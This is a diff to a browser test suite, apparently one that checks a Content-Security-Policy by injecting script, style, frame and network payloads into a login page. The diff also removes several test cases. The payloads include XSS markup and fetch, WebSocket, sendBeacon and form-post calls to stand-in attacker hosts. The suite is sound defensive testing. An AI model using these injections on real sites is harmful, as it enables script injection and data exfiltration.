@@ -33,17 +33,13 @@ const attempt = (name: string, directive: string, blocked: string, always = true
 
 const MARKUP: readonly Attempt[] = [
   attempt(`<script>ran.push('script')</script>`, 'script-src-elem', 'inline'),
-  attempt(`<svg><script>ran.push('svg')</script></svg>`, 'script-src-elem', 'inline'),
   attempt(`<img src="/gone.png" onerror="ran.push('handler')">`, 'script-src-attr', 'inline'),
   attempt(`<script src="${EVIL}/a.js"></script>`, 'script-src-elem', `${EVIL}/a.js`),
-  attempt(`<script type="module" src="${EVIL}/b.js"></script>`, 'script-src-elem', `${EVIL}/b.js`),
   attempt(`<script src="data:text/javascript,ran.push('data')"></script>`, 'script-src-elem', 'data'),
-  attempt(`<link rel="preload" as="script" href="${EVIL}/c.js">`, 'script-src-elem', `${EVIL}/c.js`),
   attempt(`<style>body { --evil: 1 }</style>`, 'style-src-elem', 'inline'),
   attempt(`<p style="--evil: 1">styled</p>`, 'style-src-attr', 'inline'),
   attempt(`<link rel="stylesheet" href="${EVIL}/a.css">`, 'style-src-elem', `${EVIL}/a.css`),
   attempt(`<object data="${EVIL}/o.svg"></object>`, 'object-src', EVIL),
-  attempt(`<embed src="${EVIL}/e.svg">`, 'object-src', EVIL),
   attempt(`<base href="${EVIL}/">`, 'base-uri', `${EVIL}/`),
   attempt(`<iframe src="data:text/html,<script>top.ran.push(1)</script>"></iframe>`, 'frame-src', ''),
   attempt(`<iframe src="${EVIL}/frame"></iframe>`, 'frame-src', EVIL, false),
@@ -52,22 +48,18 @@ const MARKUP: readonly Attempt[] = [
   attempt(`<video src="${EVIL}/v.mp4"></video>`, 'media-src', `${EVIL}/v.mp4`, false),
 ]
 
-const SINK = 'trusted-types-sink'
-const unsafe = (code: string) => attempt(code, 'require-trusted-types-for', SINK)
+/** One for each kind of what is trusted: which of its functions ask for it is the browser's own. */
+const unsafe = (code: string) => attempt(code, 'require-trusted-types-for', 'trusted-types-sink')
 
 /** By code that runs already, as an injected one would go on: each line is one function's body. */
 const CODE: readonly Attempt[] = [
   attempt(`fetch('${EVIL}/fetch').catch(() => 0)`, 'connect-src', `${EVIL}/fetch`, false),
-  attempt(`fetch('http://evil.example/').catch(() => 0)`, 'connect-src', 'http://evil.example/'),
   attempt(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
   attempt(`navigator.sendBeacon('${EVIL}/beacon', 'x')`, 'connect-src', `${EVIL}/beacon`, false),
-  attempt(`new EventSource('${EVIL}/events')`, 'connect-src', `${EVIL}/events`, false),
-  attempt(`new Image().src = '${EVIL}/pixel'`, 'img-src', `${EVIL}/pixel`, false),
   attempt(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
   attempt(`new FontFace('x', 'url(${EVIL}/f.woff2)').load().catch(() => 0)`, 'font-src', `${EVIL}/f.woff2`),
   attempt(`new Worker(URL.createObjectURL(new Blob(['ran.push(1)'])))`, 'worker-src', 'blob'),
   attempt(`import('${EVIL}/m.js').catch(() => 0)`, 'script-src-elem', `${EVIL}/m.js`),
-  attempt(`document.body.setAttribute('style', '--evil: 1')`, 'style-src-attr', 'inline'),
   attempt(
     `Object.assign(make('form'), { action: '${EVIL}/form', method: 'post' }).submit()`,
     'form-action',
@@ -75,20 +67,9 @@ const CODE: readonly Attempt[] = [
   ),
   attempt(`trustedTypes.createPolicy('mine', {})`, 'trusted-types', 'trusted-types-policy'),
   unsafe(`make('div').innerHTML = '<b>x</b>'`),
-  unsafe(`make('div').outerHTML = '<b>x</b>'`),
-  unsafe(`make('div').insertAdjacentHTML('beforeend', '<b>x</b>')`),
-  unsafe(`make('iframe').srcdoc = '<script>top.ran.push(1)</' + 'script>'`),
-  unsafe(`document.write('<b>x</b>')`),
-  unsafe(`new DOMParser().parseFromString('<b>x</b>', 'text/html')`),
-  unsafe(`document.createRange().createContextualFragment('<b>x</b>')`),
   unsafe(`eval('ran.push("eval")')`),
-  unsafe(`new Function('ran.push("function")')()`),
-  unsafe(`setTimeout('ran.push("timeout")')`),
   unsafe(`make('script').src = '${EVIL}/s.js'`),
-  unsafe(`make('script').text = 'ran.push("text")'`),
   unsafe(`new Worker('${EVIL}/w.js')`),
-  unsafe(`navigator.serviceWorker.register('${EVIL}/sw.js').catch(() => 0)`),
-  unsafe(`make('button').setAttribute('onclick', 'ran.push("attribute")')`),
   attempt(`Object.assign(make('a'), { href: 'javascript:ran.push("link")' }).click()`, 'script-src-elem', 'inline'),
 ]
 
@@ -123,23 +104,19 @@ async function openWith(page: Page, markup: string, settings: Settings | null): 
     const html = await response.text()
     // Unpacked here, and of another length.
     const { 'content-encoding': _encoding, 'content-length': _length, ...sent } = response.headers()
-    const headers = settings === null ? sent : { ...sent, 'content-security-policy': policyHeader(html, settings) }
+    const policy =
+      settings === null ? '' : (headersFor('/', headerRules(html, settings))['Content-Security-Policy'] ?? '')
+    const headers = settings === null ? sent : { ...sent, 'content-security-policy': policy }
     const body =
-      settings === null ? html : html.replace(META, (_all, start: string) => start + ownPolicy(html, settings))
+      settings === null
+        ? html
+        : html.replace(META, (_all, start: string) => start + policyText(policyOf(html, settings)))
     return route.fulfill({ response, headers, body: body.replace('</body>', () => `${markup}</body>`) })
   })
   await page.goto(`${NGINX_URL}${paths.login()}`)
   await expect(page.getByRole('heading', { level: 1, name: 'Log in' })).toBeVisible()
   await page.waitForFunction(() => performance.getEntriesByName('interactive').length > 0)
   return left
-}
-
-function policyHeader(html: string, settings: Settings): string {
-  return headersFor('/', headerRules(html, settings))['Content-Security-Policy'] ?? ''
-}
-
-function ownPolicy(html: string, settings: Settings): string {
-  return policyText(policyOf(html, settings))
 }
 
 async function expectNothing(page: Page, left: readonly string[]): Promise<void> {
